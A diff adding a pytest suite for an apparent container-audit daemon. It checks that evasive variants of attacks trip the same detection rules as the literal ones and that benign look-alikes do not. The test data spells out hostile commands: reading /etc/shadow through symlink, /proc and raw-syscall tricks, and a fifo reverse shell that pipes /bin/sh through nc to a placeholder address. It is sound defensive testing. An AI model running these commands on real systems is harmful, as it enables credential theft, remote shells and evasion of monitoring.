@@ -1,0 +1,219 @@
+"""The same attacks, spelt so a literal-minded tracer misses them (issue 12), in real containers.
+
+Each evasion must fire the same default rule as the literal attack (tests/rules_e2e/
+test_default_rules_e2e.py), attributed to its container, with the field that says what really
+happened (the file the kernel opened, the executable it ran, the syscall it was); each benign
+look-alike must stay quiet, and its witness event proves it ran. One in-process daemon with the
+shipped rules and the kernel's filters, as in production.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from dataclasses import dataclass
+
+import pytest
+
+from cauditd.events import Event, ExecEvent, SyscallEvent
+from cauditd.rules.prefilter import READ
+from tests.conftest import (
+    TEST_IMAGE,
+    Containers,
+    DaemonThread,
+    daemon_config,
+    docker_problem,
+    ebpf_problem,
+    unavailable,
+)
+from tests.rules_e2e.lab import Connected, Lab, Opened, Scenario, Witness, execd, file_op, sh
+
+NOWHERE = "10.99.0.1"  # no network in these containers: the syscall happens, no packet leaves
+METADATA = "169.254.169.254"
+PRIV = ("--cap-add", "SYS_ADMIN", "--security-opt", "seccomp=unconfined")
+UNCONFINED = ("--security-opt", "seccomp=unconfined")  # Docker 20.10 predates fchmodat2
+SHM_EXEC = ("--tmpfs", "/dev/shm:rw,exec")
+SENSITIVE = "Read sensitive file untrusted"
+STDIO = "Redirect stdio to network connection"
+METADATA_RULE = "Contact cloud metadata service from container"
+SETID = "Set setuid or setgid bit"
+
+
+def asked(ev: Event) -> str:
+    return ev.filename or ev.exe if isinstance(ev, ExecEvent) else ""
+
+
+def exec_asked(predicate_path: str) -> Witness:
+    """An exec that asked for this path (or, ending in "*", a path with this prefix)."""
+    if predicate_path.endswith("*"):
+        return lambda ev: asked(ev).startswith(predicate_path[:-1])
+    return lambda ev: asked(ev) == predicate_path
+
+
+def runtime_mount(ev: Event) -> bool:
+    """The container runtime's own mounts while it sets the container up (runc's init stage,
+    by its comm: the process has since become the entrypoint)."""
+    return isinstance(ev, SyscallEvent) and ev.type == "mount" and ev.comm.startswith("runc:[")
+
+
+def shell_under_docker_init(ev: Event) -> bool:
+    return (isinstance(ev, ExecEvent) and asked(ev) == "/bin/sh" and ev.process is not None
+            and ev.process.parent is not None and ev.process.parent.name == "docker-init")
+
+
+def evade(*args: str, options: tuple[str, ...] = ()) -> Scenario:
+    """cauditd_evade MODE ARGS from a shell (not as the container's first process, which the
+    rules' entrypoint exceptions cover)."""
+    return sh("/usr/bin/cauditd_evade " + " ".join(args), options=options)
+
+
+def opened_by(path: str, *args: str) -> Opened:
+    return Opened(path, READ, ("/usr/bin/cauditd_evade", *args))
+
+
+@dataclass(frozen=True)
+class Evasion:
+    """An evasive spelling that must fire `rule` with output field `field` = `value` (a prefix
+    when it ends in "*"), and a benign look-alike that must not, whose `witness` proves it ran."""
+
+    label: str
+    rule: str
+    evasive: Scenario
+    field: str
+    value: str
+    benign: Scenario
+    witness: Witness
+
+
+SYMLINKED = "ln -s /etc /tmp/e; "
+EVASIONS = [
+    # paths that are not the literal string: the rule sees the file the kernel opened
+    Evasion("dirfd", SENSITIVE, evade("dirfd", "/etc", "shadow"), "fd.name", "/etc/shadow",
+            evade("dirfd", "/etc", "passwd"), opened_by("/etc/passwd", "dirfd", "/etc",
+                                                        "passwd")),
+    Evasion("symlinked-directory", SENSITIVE, sh(SYMLINKED + "/bin/cat /tmp/e/shadow"),
+            "fd.name", "/etc/shadow", sh(SYMLINKED + "/bin/cat /tmp/e/passwd"),
+            Opened("/etc/passwd", READ, ("/bin/cat", "/tmp/e/passwd"))),
+    Evasion("proc-self-root", SENSITIVE, sh("/bin/cat /proc/self/root/etc/shadow"), "fd.name",
+            "/etc/shadow", sh("/bin/cat /proc/self/root/etc/passwd"),
+            Opened("/etc/passwd", READ, ("/bin/cat", "/proc/self/root/etc/passwd"))),
+    Evasion("proc-pid-cwd", SENSITIVE,
+            sh("cd /etc; /bin/sleep 2 & /bin/cat /proc/$!/cwd/shadow; kill $!"), "fd.name",
+            "/etc/shadow", sh("cd /etc; /bin/cat /proc/self/cwd/passwd"),
+            Opened("/etc/passwd", READ, ("/bin/cat", "/proc/self/cwd/passwd"))),
+    Evasion("padded-past-256-bytes", SENSITIVE, evade("pad", "/etc/shadow"), "fd.name",
+            "/etc/shadow", evade("pad", "/etc/passwd"), opened_by("/etc/passwd", "pad",
+                                                                  "/etc/passwd")),
+    Evasion("chdir-around-the-open", SENSITIVE, evade("chdir", "/etc", "shadow"), "fd.name",
+            "/etc/shadow", evade("chdir", "/etc", "passwd"),
+            opened_by("/etc/passwd", "chdir", "/etc", "passwd")),
+    Evasion("fchdir", SENSITIVE, evade("fchdir", "/etc", "shadow"), "fd.name", "/etc/shadow",
+            evade("fchdir", "/etc", "passwd"), opened_by("/etc/passwd", "fchdir", "/etc",
+                                                         "passwd")),
+    # syscalls the probes did not see, or misread
+    Evasion("int80-open", SENSITIVE, evade("int80-open", "/etc/shadow"), "fd.name",
+            "/etc/shadow", evade("int80-open", "/etc/passwd"),
+            opened_by("/etc/passwd", "int80-open", "/etc/passwd")),
+    Evasion("io-uring-openat", SENSITIVE, evade("uring-open", "/etc/shadow"), "fd.name",
+            "/etc/shadow", evade("uring-open", "/etc/passwd"),
+            opened_by("/etc/passwd", "uring-open", "/etc/passwd")),
+    Evasion("int80-socketcall-connect", "Connection to mining pool port",
+            evade("int80-connect", NOWHERE, "3333"), "fd.dport", "3333",
+            evade("int80-connect", NOWHERE, "8080"),
+            Connected(NOWHERE, 8080, ("/usr/bin/cauditd_evade", "int80-connect", NOWHERE,
+                                      "8080"))),
+    Evasion("fcntl-dupfd", STDIO, evade("fcntl-dup", NOWHERE, "4444"), "evt.type", "fcntl",
+            evade("fcntl-dup-file", "/etc/hostname"),
+            execd("/usr/bin/cauditd_evade", "fcntl-dup-file", "/etc/hostname")),
+    Evasion("socket-on-a-freed-fd-0", STDIO, evade("socket-low", NOWHERE, "4444"), "evt.type",
+            "socket", evade("pipe-low"), execd("/usr/bin/cauditd_evade", "pipe-low")),
+    Evasion("sendmsg", METADATA_RULE, evade("sendmsg", METADATA, "80"), "fd.dip", METADATA,
+            evade("sendmsg", NOWHERE, "80"),
+            execd("/usr/bin/cauditd_evade", "sendmsg", NOWHERE, "80")),
+    Evasion("sendmmsg-second-message", METADATA_RULE, evade("sendmmsg", METADATA, "80"),
+            "fd.dip", METADATA, evade("sendmmsg", NOWHERE, "80"),
+            execd("/usr/bin/cauditd_evade", "sendmmsg", NOWHERE, "80")),
+    Evasion("fchmodat2", SETID, evade("fchmodat2", "/tmp", "4755", options=UNCONFINED),
+            "evt.type", "fchmodat2", evade("fchmodat2", "/tmp", "755", options=UNCONFINED),
+            file_op(("fchmodat2",), "/tmp")),
+    Evasion("open-o-creat-setuid", SETID, evade("creat", "/tmp/s", "4755"), "fd.name",
+            "/tmp/s", evade("creat", "/tmp/s", "755"),
+            execd("/usr/bin/cauditd_evade", "creat", "/tmp/s", "755")),
+    # addresses in another spelling
+    Evasion("v4-mapped-ipv6", METADATA_RULE, evade("connect6", METADATA, "80"), "fd.dip",
+            METADATA, evade("connect6", NOWHERE, "80"),
+            execd("/usr/bin/cauditd_evade", "connect6", NOWHERE, "80")),
+    # executables that are not what their name says
+    Evasion("exe-path-with-dotdot", "Execution from /dev/shm",
+            sh("/bin/cp /bin/busybox /dev/shm/true && /../dev/shm/true", options=SHM_EXEC),
+            "proc.exepath", "/dev/shm/true", sh("/../bin/true"), exec_asked("/../bin/true")),
+    Evasion("o-tmpfile-exec", "Drop and execute new binary in container",
+            evade("tmpfile-exec", "/tmp", "/bin/busybox"), "proc.exepath", "/tmp/#*",
+            evade("fd-exec", "/bin/busybox"), exec_asked("/proc/self/fd/*")),
+    Evasion("binary-named-runc", "Namespace change in container",
+            sh("/bin/cp /usr/bin/cauditd_probe /tmp/runc && /tmp/runc unshare", options=PRIV),
+            "proc.name", "runc", Scenario(("/bin/true",), PRIV), runtime_mount),
+    Evasion("binary-named-tini", "Shell spawned by non-shell in container",
+            sh("/bin/cp /usr/bin/cauditd_attack /tmp/tini && /tmp/tini spawn /bin/sh -c true"),
+            "proc.pname", "tini", Scenario(("/bin/sh", "-c", "true; true"), ("--init",)),
+            shell_under_docker_init),
+    # reverse shells that dup no socket
+    Evasion("shell-reading-a-fifo", "Reverse shell through pipes",
+            sh(f"mkfifo /tmp/f; /bin/sh -i < /tmp/f 2>&1 | /usr/bin/nc -w 1 {NOWHERE} 4445"
+               " > /tmp/f"), "container.image", TEST_IMAGE,
+            sh("mkfifo /tmp/f; (echo id > /tmp/f &); /bin/sh < /tmp/f | /bin/cat"),
+            exec_asked("/bin/cat")),
+]  # fmt: skip
+INT80_SIGPROCMASK = evade("int80-sigprocmask")
+
+
+@pytest.fixture(scope="module")
+def lab(tmp_path_factory: pytest.TempPathFactory, request: pytest.FixtureRequest) -> Iterator[Lab]:
+    for problem in (ebpf_problem(), docker_problem()):
+        if problem:
+            unavailable(problem)
+    config = daemon_config(tmp_path_factory.mktemp("evasions"), all_syscalls=False)
+    daemon = DaemonThread(config)
+    daemon.start()
+    box = Containers()
+    try:
+        the_lab = Lab(daemon, box)
+        the_lab.prepare([*(e.evasive for e in EVASIONS), *(e.benign for e in EVASIONS),
+                         INT80_SIGPROCMASK])
+        yield the_lab
+    finally:
+        box.remove_all()
+        daemon.stop()
+
+
+def matches(value: object, expected: str) -> bool:
+    text = str(value)
+    return text.startswith(expected[:-1]) if expected.endswith("*") else text == expected
+
+
+@pytest.mark.parametrize("evasion", EVASIONS, ids=lambda e: e.label)
+def test_the_evasion_fires_the_rule_of_the_literal_attack(lab: Lab, evasion: Evasion) -> None:
+    ran = lab.ran(evasion.evasive)
+    found = lab.findings(ran, rule=evasion.rule)
+    assert found, lab.explain(ran)
+    for finding in found:
+        assert finding["container"]["full_id"] == ran.container_id
+        assert finding["container"]["name"] == ran.name
+        assert finding["container"]["image"] == TEST_IMAGE
+    values = [f["output_fields"].get(evasion.field) for f in found]
+    assert any(matches(v, evasion.value) for v in values), (values, lab.explain(ran))
+
+
+@pytest.mark.parametrize("evasion", EVASIONS, ids=lambda e: e.label)
+def test_the_benign_look_alike_stays_quiet(lab: Lab, evasion: Evasion) -> None:
+    ran = lab.ran(evasion.benign)
+    assert lab.saw(ran, evasion.witness), f"the look-alike did not happen:\n{lab.explain(ran)}"
+    assert lab.findings(ran, rule=evasion.rule) == [], lab.explain(ran)
+
+
+def test_an_i386_syscall_is_not_read_as_the_x86_64_one_of_its_number(lab: Lab) -> None:
+    """i386 rt_sigprocmask is 175, what x86_64 calls init_module: no forged module load."""
+    ran = lab.ran(INT80_SIGPROCMASK)
+    assert lab.saw(ran, execd("/usr/bin/cauditd_evade", "int80-sigprocmask")), lab.explain(ran)
+    assert lab.findings(ran, rule="Linux kernel module load") == [], lab.explain(ran)
+    assert not any(isinstance(ev, SyscallEvent) and ev.type == "init_module"
+                   for ev in lab.events(ran))
